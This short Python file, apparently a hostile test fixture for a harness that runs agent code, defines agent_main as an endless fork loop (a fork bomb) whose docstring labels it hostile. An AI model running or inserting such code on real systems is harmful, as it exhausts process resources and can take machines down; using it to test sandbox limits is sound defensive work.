"""Hostile: forks without end."""

import os
import time


def agent_main(problem):
    children = 0
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
